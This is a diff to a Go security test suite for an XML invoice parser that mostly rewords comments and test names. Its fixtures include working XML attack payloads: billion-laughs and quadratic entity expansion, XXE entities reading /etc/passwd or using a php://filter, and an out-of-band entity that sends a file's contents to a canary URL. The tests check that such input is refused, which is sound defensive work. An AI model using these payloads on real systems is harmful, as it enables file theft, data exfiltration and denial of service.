@@ -21,7 +21,7 @@ func TestX1_HostileXML(t *testing.T) {
 	withstand(t, 60, 450, bird, files)
 }
 
-// A document type is refused wherever it stands.
+// A document type is refused at any position.
 func TestX1_DocumentTypesAreRefused(t *testing.T) {
 	h := openTools(t)
 	for _, f := range entities(newCanary(t)) {
@@ -30,7 +30,7 @@ func TestX1_DocumentTypesAreRefused(t *testing.T) {
 		}
 		for _, content := range []string{f.data(), servicetest.PDFWith("Alternative:" + f.data())} {
 			if got := h.Parse(content); got.Status != 400 || !strings.Contains(got.Body, "not accepted") && !strings.Contains(got.Body, "not UTF-8") {
-				t.Errorf("%s: got %d %.200s", f.name, got.Status, got.Body)
+				t.Errorf("%s: status %d, body %.200s", f.name, got.Status, got.Body)
 			}
 		}
 	}
@@ -38,15 +38,16 @@ func TestX1_DocumentTypesAreRefused(t *testing.T) {
 
 const parseRoot = `<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" xmlns:ext="urn:oasis:names:specification:ubl:schema:xsd:CommonExtensionComponents-2">`
 
-// inInvoice puts content into the root of an invoice.
+// inInvoice returns an invoice with content in its root.
 func inInvoice(content string) string { return parseRoot + content + "</Invoice>" }
 
-// withEntities is an invoice with a document type, whose note is an entity of it.
+// withEntities returns an invoice with a document type and a note that uses one of
+// its entities.
 func withEntities(subset, note string) func() string {
 	return fixed("<!DOCTYPE Invoice " + subset + ">" + inInvoice("<cbc:Note>"+note+"</cbc:Note>"))
 }
 
-// entities ask for what stands elsewhere, or become great.
+// entities refer to external resources or expand to large texts.
 func entities(bird *canary) []hostile {
 	laughs := func(quote string) string {
 		var b strings.Builder
@@ -60,13 +61,13 @@ func entities(bird *canary) []hostile {
 		{"billion laughs", withEntities(laughs("&l%d;"), "&l9;")},
 		{"billion laughs by parameter", withEntities(strings.ReplaceAll(laughs("&#37;l%d;"), "<!ENTITY ", "<!ENTITY % "), "x")},
 		{"quadratic blow-up", withEntities(`[<!ENTITY a "`+strings.Repeat("a", 100_000)+`">]`, strings.Repeat("&a;", 50_000))},
-		{"entity that is itself", withEntities(`[<!ENTITY a "&a;">]`, "&a;")},
+		{"entity that contains itself", withEntities(`[<!ENTITY a "&a;">]`, "&a;")},
 		{"external file", withEntities(`[<!ENTITY a SYSTEM "file://`+bird.file+`">]`, "&a;")},
 		{"external password file", withEntities(`[<!ENTITY a SYSTEM "file:///etc/passwd">]`, "&a;")},
 		{"external endless file", withEntities(`[<!ENTITY a SYSTEM "file:///dev/zero">]`, "&a;")},
 		{"external address", withEntities(`[<!ENTITY a SYSTEM "`+bird.url+`/a">]`, "&a;")},
 		{"external parameter", withEntities(`[<!ENTITY % a SYSTEM "`+bird.url+`/a"> %a;]`, "x")},
-		{"external parameter that tells", withEntities(`[<!ENTITY % f SYSTEM "file://`+bird.file+`"><!ENTITY % a "<!ENTITY &#37; b SYSTEM '`+bird.url+`/?%f;'>">%a;%b;]`, "x")},
+		{"external parameter that sends data", withEntities(`[<!ENTITY % f SYSTEM "file://`+bird.file+`"><!ENTITY % a "<!ENTITY &#37; b SYSTEM '`+bird.url+`/?%f;'>">%a;%b;]`, "x")},
 		{"external subset", withEntities(`SYSTEM "`+bird.url+`/a.dtd"`, "x")},
 		{"external subset, public", withEntities(`PUBLIC "-//X//Y" "`+bird.url+`/a.dtd"`, "x")},
 		{"external, PHP filter", withEntities(`[<!ENTITY a SYSTEM "php://filter/convert.base64-encode/resource=`+bird.file+`">]`, "&a;")},
@@ -75,15 +76,15 @@ func entities(bird *canary) []hostile {
 		{"unparsed", withEntities(`[<!NOTATION n SYSTEM "`+bird.url+`"><!ENTITY a SYSTEM "`+bird.url+`" NDATA n>]`, "x")},
 		{"attribute by default", withEntities(`[<!ATTLIST cbc:Note languageID CDATA "ar">]`, "x")},
 		{"document type in small letters", fixed("<!doctype Invoice>" + inInvoice(""))},
-		{"document type behind a comment", fixed("<!-- a --><!DOCTYPE Invoice>" + inInvoice(""))},
+		{"document type after a comment", fixed("<!-- a --><!DOCTYPE Invoice>" + inInvoice(""))},
 		{"document type in the root", fixed(inInvoice("<!DOCTYPE Invoice>"))},
-		{"document type behind the root", fixed(inInvoice("") + "<!DOCTYPE Invoice>")},
+		{"document type after the root", fixed(inInvoice("") + "<!DOCTYPE Invoice>")},
 		{"entity in the root", fixed(inInvoice(`<!ENTITY a "b">`))},
 		{"XInclude of a file", fixed(inInvoice(`<cbc:Note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://` + bird.file + `" parse="text"/></cbc:Note>`))},
 		{"XInclude of an address", fixed(inInvoice(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="` + bird.url + `"/>`))},
 		{"style sheet", fixed(`<?xml-stylesheet type="text/xsl" href="` + bird.url + `/a.xsl"?>` + inInvoice(""))},
-		{"schema elsewhere", fixed(strings.Replace(inInvoice(""), "<Invoice ", `<Invoice xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x `+bird.url+`" `, 1))},
-		{"base elsewhere", fixed(inInvoice(`<cbc:Note xml:base="` + bird.url + `">x</cbc:Note>`))},
+		{"external schema", fixed(strings.Replace(inInvoice(""), "<Invoice ", `<Invoice xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x `+bird.url+`" `, 1))},
+		{"external base", fixed(inInvoice(`<cbc:Note xml:base="` + bird.url + `">x</cbc:Note>`))},
 	}
 }
 
@@ -99,15 +100,15 @@ func utf16Of(text string, highFirst bool) string {
 	return string(out)
 }
 
-// encodings are not what they say, or not UTF-8.
+// encodings are declared wrongly or are not UTF-8.
 func encodings(sealed string) []hostile {
 	says := func(encoding string) func() string {
 		return fixed(`<?xml version="1.0" encoding="` + encoding + `"?>` + rootOf(sealed))
 	}
 	return []hostile{
-		{"UTF-16, marked", fixed(utf16Of("\uFEFF"+sealed, true))},
-		{"UTF-16, low first", fixed(utf16Of("\uFEFF"+sealed, false))},
-		{"UTF-16, not marked", fixed(utf16Of(sealed, true))},
+		{"UTF-16 with a byte order mark", fixed(utf16Of("\uFEFF"+sealed, true))},
+		{"UTF-16, little endian", fixed(utf16Of("\uFEFF"+sealed, false))},
+		{"UTF-16 without a byte order mark", fixed(utf16Of(sealed, true))},
 		{"UTF-16 of a document type", fixed(utf16Of("\uFEFF<!DOCTYPE a><a/>", false))},
 		{"UTF-32", fixed("\x00\x00\x00<\x00\x00\x00a\x00\x00\x00/\x00\x00\x00>")},
 		{"says UTF-7", says("UTF-7")},
@@ -117,18 +118,18 @@ func encodings(sealed string) []hostile {
 		{"says Latin-1", says("ISO-8859-1")},
 		{"says UTF-16", says("UTF-16")},
 		{"NUL", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>\x00", 1))},
-		{"NUL before all", fixed("\x00" + sealed)},
+		{"NUL at the beginning", fixed("\x00" + sealed)},
 		{"overlong", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>\xC0\xBCx", 1))},
-		{"half of a pair", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>\xED\xA0\x80", 1))},
+		{"half of a surrogate pair", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>\xED\xA0\x80", 1))},
 		{"reference to NUL", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>&#0;", 1))},
-		{"reference to half a pair", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>&#xD800;", 1))},
-		{"reference beyond all", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>&#99999999999999999999;", 1))},
+		{"reference to half of a surrogate pair", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>&#xD800;", 1))},
+		{"reference out of range", fixed(strings.Replace(sealed, "<cbc:ID>", "<cbc:ID>&#99999999999999999999;", 1))},
 		{"two byte order marks", fixed("\uFEFF\uFEFF" + sealed)},
 		{"XML 1.1", fixed(strings.Replace(sealed, `version="1.0"`, `version="1.1"`, 1))},
 	}
 }
 
-// bulk is much of one thing.
+// bulk repeats one thing very often.
 func bulk(sealed string) []hostile {
 	const room = parseCap - 4096
 	fill := func(before, again, after string) func() string {
@@ -140,10 +141,10 @@ func bulk(sealed string) []hostile {
 		return func() string { return inInvoice(strings.Repeat(again, n)) }
 	}
 	return []hostile{
-		{"700,000 elements in one another", func() string { return strings.Repeat("<a>", 700_000) + strings.Repeat("</a>", 700_000) }},
-		{"700,000 elements without an end", func() string { return strings.Repeat("<a>", 700_000) }},
-		{"65 elements in one another", func() string { return inInvoice(strings.Repeat("<a>", 65) + strings.Repeat("</a>", 65)) }},
-		{"sixty deep, over and over", times(800, strings.Repeat("<a>", 60)+strings.Repeat("</a>", 60))},
+		{"700,000 nested elements", func() string { return strings.Repeat("<a>", 700_000) + strings.Repeat("</a>", 700_000) }},
+		{"700,000 elements without end tags", func() string { return strings.Repeat("<a>", 700_000) }},
+		{"65 nested elements", func() string { return inInvoice(strings.Repeat("<a>", 65) + strings.Repeat("</a>", 65)) }},
+		{"sixty deep, repeated", times(800, strings.Repeat("<a>", 60)+strings.Repeat("</a>", 60))},
 		{"300,000 attributes", func() string {
 			var b strings.Builder
 			b.WriteString("<Invoice")
@@ -158,17 +159,17 @@ func bulk(sealed string) []hostile {
 		{"a note of references", fill("<cbc:Note>", "&#65;", "</cbc:Note>")},
 		{"a note of ampersands", fill("<cbc:Note>", "&amp;", "</cbc:Note>")},
 		{"empty elements", fill("", "<a/>", "")},
-		{"as many empty elements as are read", times(99_990, "<cbc:Note>x</cbc:Note>")},
-		{"as many lines as are read", times(99_990, "<cac:InvoiceLine/>")},
-		{"as many discounts as are read", times(99_990, "<cac:AllowanceCharge/>")},
-		{"as many references as are read", times(99_990, "<cac:AdditionalDocumentReference/>")},
-		{"as many subtotals as are read", func() string {
+		{"maximum number of empty elements", times(99_990, "<cbc:Note>x</cbc:Note>")},
+		{"maximum number of lines", times(99_990, "<cac:InvoiceLine/>")},
+		{"maximum number of discounts", times(99_990, "<cac:AllowanceCharge/>")},
+		{"maximum number of references", times(99_990, "<cac:AdditionalDocumentReference/>")},
+		{"maximum number of subtotals", func() string {
 			return inInvoice("<cac:TaxTotal>" + strings.Repeat("<cac:TaxSubtotal/>", 99_980) + "</cac:TaxTotal>")
 		}},
-		{"as many attributes as are read", times(33_330, `<cbc:Note a="" b="" />`)},
-		{"as many namespaces as are read", times(49_990, `<a xmlns="urn:x"/>`)},
-		{"prefixes over and over", times(20_000, `<x:a xmlns:x="urn:x" xmlns:y="urn:y" x:b="" y:b=""/>`)},
-		{"4,000 lines that say nothing", times(4_000, "<cac:InvoiceLine/>")},
+		{"maximum number of attributes", times(33_330, `<cbc:Note a="" b="" />`)},
+		{"maximum number of namespaces", times(49_990, `<a xmlns="urn:x"/>`)},
+		{"repeated prefixes", times(20_000, `<x:a xmlns:x="urn:x" xmlns:y="urn:y" x:b="" y:b=""/>`)},
+		{"4,000 empty lines", times(4_000, "<cac:InvoiceLine/>")},
 		{"signatures", times(30_000, "<cac:Signature/>")},
 		{"extensions", times(30_000, "<ext:UBLExtensions/>")},
 		{"codes", times(5_000, "<cac:AdditionalDocumentReference><cbc:ID>QR</cbc:ID></cac:AdditionalDocumentReference>")},
@@ -180,7 +181,7 @@ func bulk(sealed string) []hostile {
 	}
 }
 
-// markup is XML that hardly anybody writes.
+// markup is unusual XML.
 func markup(sealed string) []hostile {
 	const room = parseCap - 4096
 	id := func(s string) func() string {
@@ -220,7 +221,7 @@ func markup(sealed string) []hostile {
 	}
 }
 
-// values are right XML whose values are meant to do harm.
+// values are valid XML with harmful values.
 func values(sealed string) []hostile {
 	amount := func(s string) func() string {
 		head, rest, _ := strings.Cut(sealed, "<cbc:PriceAmount currencyID=\"SAR\">")
@@ -244,8 +245,8 @@ func values(sealed string) []hostile {
 	}
 }
 
-// reasonsWithoutEnd has lines that could have either of two reasons in as many
-// ways as there are, none of which comes out right.
+// reasonsWithoutEnd returns lines that match either of two reasons, so that there
+// are very many combinations, none of which gives the right totals.
 func reasonsWithoutEnd() string {
 	subtotal := func(amount, code string) string {
 		return `<cac:TaxSubtotal><cbc:TaxableAmount currencyID="SAR">` + amount + `</cbc:TaxableAmount><cbc:TaxAmount currencyID="SAR">0</cbc:TaxAmount>` +
@@ -262,8 +263,8 @@ func reasonsWithoutEnd() string {
 	return inInvoice(out)
 }
 
-// manyTaxes has lines and advances, the advances as many subtotals as the document
-// itself, and no two that fit together.
+// manyTaxes returns lines and advances, each advance with as many subtotals as the
+// document, none of which match.
 func manyTaxes(subtotals, lines, advances int) string {
 	taxed := func(name string, n int) string {
 		return fmt.Sprintf(`<cac:%s><cbc:ID>Z%d</cbc:ID><cbc:Percent>0</cbc:Percent></cac:%s>`, name, n, name)
